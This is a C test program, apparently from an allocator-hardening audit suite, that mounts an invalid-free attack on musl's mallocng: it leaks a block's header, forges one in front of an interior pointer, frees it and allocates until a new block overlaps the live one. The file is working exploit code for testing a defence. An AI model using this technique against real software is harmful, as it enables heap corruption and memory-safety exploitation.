/*
 * Invalid free: free() of a pointer into the middle of a live block (a
 * parser frees where its cursor stopped), then allocations of the same size
 * until one returns memory inside the live block: the two overlap and a
 * write to the new one changes the old one. Named defence: the hardened
 * heap (violation=invalid-free).
 *
 * musl's mallocng keeps a 4-byte header in front of each block (the slot's
 * index and its offset from the group, in 16-byte units) and checks it at
 * free(): a bare interior pointer fails those checks and mallocng crashes
 * (its a_crash(), reported as violation=libc-crash). The bytes in front of
 * an interior pointer are the block's own data, though, which the attacker
 * fills: so the attack writes a header there that passes every check, the
 * live block's own header (leaked: it lies just before the block) with the
 * offset moved by the 32 bytes. mallocng then frees the live block's slot.
 * The hardened heap keeps its metadata out of band: those bytes are data.
 */
#include <stdint.h>
#include <stdlib.h>
#include <string.h>
#include "attack.h"

#define BLOCK 200
#define INTO 32       /* the interior pointer: 2 of mallocng's 16-byte units */
#define TRIES 256

static void *(*volatile do_malloc)(size_t) = malloc;
static void (*volatile do_free)(void *) = free;

/*
 * The leak: the 4 bytes in front of the live block, read through a pipe so
 * that an unmapped page there (the hardened heap may put a block right
 * after a guard page) is an EFAULT, not a fault that ends the attack.
 */
static int leak_header(const unsigned char *record, unsigned char header[4])
{
	int fds[2];
	int ok;

	if (pipe(fds) != 0)
		return 0;
	ok = write(fds[1], record - 4, 4) == 4 && read(fds[0], header, 4) == 4;
	close(fds[0]);
	close(fds[1]);
	return ok;
}

/* Writes, in front of the interior pointer, the header mallocng would have
 * written for a block starting there: the live block's slot index, no
 * reserved bytes, and the live block's offset plus INTO / 16 units. */
static void forge_header(unsigned char *record, unsigned char *interior)
{
	unsigned char header[4];
	uint16_t offset;

	if (!leak_header(record, header)) {
		AUDIT_SAY("invalid-free: nothing readable in front of the block: no header to copy");
		return;
	}
	memcpy(&offset, header + 2, sizeof(offset));
	offset += INTO / 16;
	memcpy(interior - 2, &offset, sizeof(offset));
	interior[-3] = header[1] & 31;
	interior[-4] = 0;
}

static int overlaps(const char *block, const char *record)
{
	return block < record + BLOCK && record < block + BLOCK;
}

int main(void)
{
	/* Live neighbours in the same group, as a real heap has: musl frees
	 * (and unmaps) a group whose every slot is free, the record's with it. */
	char *before = do_malloc(BLOCK);
	char *record = do_malloc(BLOCK);
	char *after = do_malloc(BLOCK);

	AUDIT_SAY("invalid-free: live neighbours at %p and %p", (void *)before, (void *)after);
	memset(record, 'u', BLOCK);
	forge_header((unsigned char *)record, (unsigned char *)record + INTO);
	AUDIT_SAY("invalid-free: freeing %p, %d bytes into a live block", (void *)(record + INTO),
		  INTO);
	do_free(OPAQUE(record + INTO));
	for (int i = 0; i < TRIES; i++) {
		char *other = do_malloc(BLOCK);

		if (other && overlaps(other, record)) {
			AUDIT_SAY("invalid-free: allocation %d at %p overlaps the live block", i,
				  (void *)other);
			/* The new owner fills its block: the live record's bytes change. */
			memset(other, 'A', BLOCK);
			if (memchr(record, 'A', BLOCK))
				audit_success("byte written: a new allocation overlaps a live block");
		}
	}
	AUDIT_SAY("invalid-free: not stopped, not reached");
	return 0;
}
